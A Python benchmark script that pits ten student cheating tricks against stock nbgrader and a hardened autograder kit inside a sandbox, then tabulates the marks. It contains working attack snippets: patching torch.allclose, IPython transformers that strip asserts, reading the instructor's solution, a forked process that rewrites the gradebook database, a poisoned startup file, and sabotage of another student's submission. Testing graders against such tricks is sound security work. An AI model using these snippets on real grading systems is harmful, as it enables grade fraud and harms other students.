"""The same ten attacks on stock nbgrader and on this kit, side by side.

    .venv/bin/python benchmarks/ten_attacks.py [--write]      --write puts the table into docs/security.md

One exercise, softmax, 100 points: for its values 60, for its shape 40, in two checks. Stock nbgrader has them as hidden tests in the notebook, this kit as
criteria of a hidden grader. Each student hands in an answer without the division, which is worth 40 points, and a trick; one hands in the plain wrong
answer, one the plain right one with a harmless warning. Everything happens in a temporary folder with a home folder of its own: several of the tricks work
on stock nbgrader.
"""

import argparse
import json
import os
import re
import subprocess
import sys
import tempfile
import time
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
DOCUMENT = ROOT / "docs" / "security.md"
BEGIN, END = "<!-- ten attacks: begin -->", "<!-- ten attacks: end -->"
ASSIGNMENT, NOTEBOOK = "ten", "ten.ipynb"
WRONG = "def softmax(X):\n    return torch.exp(X)\n"
RIGHT = "import warnings\n\ndef softmax(X):\n    warnings.warn('a harmless warning')\n    E = torch.exp(X)\n    return E / E.sum(dim=-1, keepdim=True)\n"
SOLUTION = "### BEGIN SOLUTION\ndef softmax(X):\n    E = torch.exp(X)\n    return E / E.sum(dim=-1, keepdim=True)\n### END SOLUTION\n"
HIDDEN_VALUES = """
### BEGIN HIDDEN TESTS
for shape in [(1, 3), (4, 5)]:
    X = torch.randn(shape)
    assert torch.allclose(softmax(X), torch.softmax(X, dim=-1), atol=1e-6)
### END HIDDEN TESTS
"""
HIDDEN_SHAPE = """
### BEGIN HIDDEN TESTS
assert softmax(torch.randn(3, 4)).shape == (3, 4)
### END HIDDEN TESTS
"""
GRADER = '''"""Hidden grader of the ten attacks."""
import torch
from autograder import assert_close, assert_shape, criterion, exercise


@exercise("softmax")
class TestSoftmax:
    @criterion("equals softmax", weight=60)
    def test_values(self, student, rng):
        for shape in [(1, 3), (4, 5)]:
            X = torch.randn(shape, generator=rng)
            expected = torch.softmax(X, dim=-1)
            assert_close(student.softmax(X), expected, what="softmax(X)")

    @criterion("keeps the shape", weight=40)
    def test_shape(self, student, rng):
        assert_shape(student.softmax(torch.randn(3, 4, generator=rng)), (3, 4), what="softmax(X)")
'''
KIT_CONFIG = f"""
from autograder.grading.course import Assignment, Course
from autograder.nbgrader_plugin.configuration import configure
COURSE = Course("kit", "Ten attacks", (Assignment("{ASSIGNMENT}", "Ten"),), limits={{"criterion_seconds": 10, "cell_seconds": 10}})
c = get_config()
configure(COURSE, c)
"""
STOCK_CONFIG = 'c = get_config()\nc.CourseDirectory.course_id = "stock"\n'


@dataclass(frozen=True)
class Trick:
    """what: the row's words. source: the student's whole answer."""

    student: str
    what: str
    source: str


TRICKS = (
    Trick("t00", "returns an object whose comparisons are always true", """
class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        return True if func in (torch.allclose, torch.isclose) else super().__torch_function__(func, types, args, kwargs or {})

def softmax(X):
    return torch.exp(X).as_subclass(Agreeable)
"""),
    Trick("t01", "strips asserts from later cells with an IPython transformer", WRONG + """
import ast
class Strip(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(Strip())
"""),
    Trick("t02", "patches torch.allclose", WRONG + "\ntorch.allclose = lambda *_, **__: True\n"),
    Trick("t03", "turns later cells into comments", WRONG + "\nget_ipython().input_transformers_cleanup.append(lambda lines: ['#' + x for x in lines])\n"),
    Trick("t04", "runs the reference out of the instructor's folder", """
import json, re
try:
    text = json.dumps([cell["source"] for cell in json.load(open("../../../source/ten/ten.ipynb"))["cells"]])
    exec(re.search("### BEGIN SOLUTION(.*?)### END SOLUTION", "".join(json.loads(text)[1]), re.DOTALL)[1])
except OSError:
    def softmax(X):
        return torch.exp(X)
"""),
    Trick("t05", "copies the answer of another student", WRONG + """
import json
try:
    exec("".join(json.load(open("../../../submitted/u_right/ten/ten.ipynb"))["cells"][1]["source"]).replace("warnings.warn", "str"))
except OSError:
    pass
"""),
    Trick("t06", "knows the hidden tests from its own notebook and answers with what they compare to", """
import re
def softmax(X):
    try:
        hidden = re.search(r"torch\\.softmax\\(X, dim=-1\\)", open("ten.ipynb").read())
    except OSError:
        hidden = None
    return eval(hidden[0]) if hidden else torch.exp(X)
"""),
    Trick("t07", "leaves a process behind that writes marks into the gradebook", WRONG + """
import os, sqlite3, time
if os.fork() == 0:
    os.setsid()
    for _ in range(40):
        time.sleep(1)
        try:
            with sqlite3.connect("file:../../../gradebook.db?mode=rw", uri=True, timeout=2) as database:
                database.execute("UPDATE grade SET manual_score = 60 WHERE auto_score = 0 AND notebook_id IN (SELECT n.id FROM submitted_notebook n "
                                 "JOIN submitted_assignment s ON n.assignment_id = s.id WHERE s.student_id = 't07')")
        except sqlite3.Error:
            continue
    os._exit(0)
"""),
    Trick("t08", "writes a start-up file that works for every later student (row: the mark of the plain wrong answer after it)", WRONG + """
import os
folder = os.path.join(os.environ.get("IPYTHONDIR", "/nowhere"), "profile_default", "startup")
try:
    os.makedirs(folder, exist_ok=True)
    with open(os.path.join(folder, "00.py"), "w") as file:
        file.write("import torch\\ntorch.allclose = lambda *_, **__: True\\n")
except OSError:
    pass
"""),
    Trick("t09", "spoils the submission of the next student (row: the mark of that right answer)", WRONG + """
import glob
for path in glob.glob("../../../submitted/v_next/ten/ten.ipynb"):
    try:
        with open(path, "r+") as file:
            text = file.read()
            file.seek(0)
            file.write(text.replace("E.sum", "E.max"))
    except OSError:
        pass
"""),
)  # fmt: skip
OTHERS = {"s_wrong": WRONG, "u_right": RIGHT, "v_next": RIGHT.replace("    warnings.warn('a harmless warning')\n", "")}


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--write", action="store_true")
    options = parser.parse_args()
    with tempfile.TemporaryDirectory(prefix="autograder-benchmark-", ignore_cleanup_errors=True) as folder:
        marks = {name: marks_of(Path(folder, name), name) for name in ("stock", "kit")}
    text = table(marks["stock"], marks["kit"])
    print(text)
    if options.write:
        head, _, rest = DOCUMENT.read_text(encoding="utf-8").partition(BEGIN)
        DOCUMENT.write_text(f"{head}{BEGIN}\n{text}\n{END}{rest.partition(END)[2]}", encoding="utf-8")


def table(stock: dict[str, float | None], kit: dict[str, float | None]) -> str:
    lines = ["| a wrong answer (40 of 100 points) that … | stock nbgrader | this kit |", "|---|---|---|"]
    lines.append(f"| … tries nothing | {_points(stock['s_plain'])} | {_points(kit['s_plain'])} |")
    for trick in TRICKS:
        student = {"t08": "s_wrong", "t09": "v_next"}.get(trick.student, trick.student)
        lines.append(f"| … {trick.what} | {_points(stock[student])} | {_points(kit[student])} |")
    lines.append(f"| a right answer that prints a warning | {_points(stock['u_right'])} | {_points(kit['u_right'])} |")
    return "\n".join(lines)


def _points(mark: float | None) -> str:
    return "no mark" if mark is None else f"{mark:g}"


def marks_of(course: Path, kind: str) -> dict[str, float | None]:
    """Makes the course, hands in, grades, and reads the gradebook when everything that was left behind has ended."""
    make_course(course, kind)
    for student, source in ({trick.student: trick.source for trick in TRICKS} | {"s_plain": WRONG} | OTHERS).items():
        hand_in(course, student, source)
    # In an order in which a trick meets its victim: t08 before s_wrong, t09 before v_next, the plain wrong answer before all tricks.
    for student in ("s_plain", *(trick.student for trick in TRICKS if trick.student != "t08"), "u_right", "v_next", "t08", "s_wrong"):
        nbgrader(course, ["autograde", ASSIGNMENT, "--student", student], check=False)
    wait_for_the_rest(course)
    return read_marks(course)


def make_course(course: Path, kind: str) -> None:
    source = course / "source" / ASSIGNMENT
    source.mkdir(parents=True)
    hidden = kind == "stock"
    values = "assert softmax(torch.zeros(1, 2)).shape == (1, 2)" + (HIDDEN_VALUES if hidden else "")
    cells = [
        _cell("setup", "import torch", locked=True),
        _cell("softmax", SOLUTION, solution=True),
        _cell("test_softmax", values, locked=True, points=60 if hidden else 100),
    ]
    if hidden:
        cells.append(_cell("test_shape", "assert softmax" + HIDDEN_SHAPE, locked=True, points=40))
    kernel = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}}
    (source / NOTEBOOK).write_text(json.dumps({"nbformat": 4, "nbformat_minor": 5, "metadata": kernel, "cells": cells}))
    if kind == "kit":
        (course / "course_config.py").write_text(KIT_CONFIG)
        (course / "nbgrader_config.py").write_text('load_subconfig("course_config.py")\n')
        graders = course / "autograder" / "graders"
        graders.mkdir(parents=True)
        (graders / f"test_{ASSIGNMENT}.py").write_text(GRADER)
    else:
        (course / "nbgrader_config.py").write_text(STOCK_CONFIG)
    nbgrader(course, ["generate_assignment", ASSIGNMENT, "--create"])


def _cell(grade_id: str, source: str, locked: bool = False, solution: bool = False, points: float = 0) -> dict:
    record = {"grade_id": grade_id, "locked": locked, "solution": solution, "grade": points > 0, "schema_version": 3, "task": False}
    metadata = {"nbgrader": record | ({"points": points} if points else {})}
    return {"cell_type": "code", "execution_count": None, "id": grade_id.replace("_", "-"), "metadata": metadata, "outputs": [], "source": source}


def hand_in(course: Path, student: str, source: str) -> None:
    notebook = json.loads((course / "release" / ASSIGNMENT / NOTEBOOK).read_text())
    next(cell for cell in notebook["cells"] if cell["metadata"]["nbgrader"]["grade_id"] == "softmax")["source"] = source.strip() + "\n"
    folder = course / "submitted" / student / ASSIGNMENT
    folder.mkdir(parents=True)
    (folder / NOTEBOOK).write_text(json.dumps(notebook))


def nbgrader(course: Path, arguments: list[str], check: bool = True) -> None:
    home = course.parent / f"home-{course.name}"
    home.mkdir(exist_ok=True)
    environment = {
        **os.environ, "HOME": str(home), "IPYTHONDIR": str(home / "ipython"), "OMP_NUM_THREADS": "1", "PYTHONPATH": str(ROOT), "TEN_ATTACKS": str(course),
        "PATH": os.pathsep.join([str(Path(sys.executable).parent), os.environ["PATH"]]),
    }  # fmt: skip
    done = subprocess.run([sys.executable, "-m", "nbgrader", *arguments], cwd=course, env=environment, capture_output=True, text=True)
    if done.returncode and check:
        sys.exit(f"nbgrader {' '.join(arguments)} failed:\n{done.stderr[-3000:]}")


def wait_for_the_rest(course: Path) -> None:
    """Until the processes that were left behind (they inherit TEN_ATTACKS) have ended; they end by themselves."""
    mark, ends = f"TEN_ATTACKS={course}\0".encode(), time.monotonic() + 120
    while time.monotonic() < ends:
        left = [path for path in Path("/proc").glob("[0-9]*/environ") if mark in _read(path)]
        if not left:
            return
        time.sleep(0.5)


def _read(path: Path) -> bytes:
    try:
        return path.read_bytes()
    except OSError:
        return b""


def read_marks(course: Path) -> dict[str, float | None]:
    """Marks of 100 by student; None where nbgrader has none."""
    from nbgrader.api import Gradebook

    students = ["s_plain", *(trick.student for trick in TRICKS), *OTHERS]
    marks: dict[str, float | None] = {}
    with Gradebook(f"sqlite:///{course / 'gradebook.db'}") as gradebook:
        for student in students:
            graded = (course / "autograded" / student / ASSIGNMENT / NOTEBOOK).is_file()
            marks[student] = gradebook.find_submission(ASSIGNMENT, student).score if graded else None
    return marks


def table_in_the_document() -> str:
    found = re.search(re.escape(BEGIN) + r"\n(.*?)\n" + re.escape(END), DOCUMENT.read_text(encoding="utf-8"), re.DOTALL)
    return found[1].strip() if found else ""


if __name__ == "__main__":
    main()
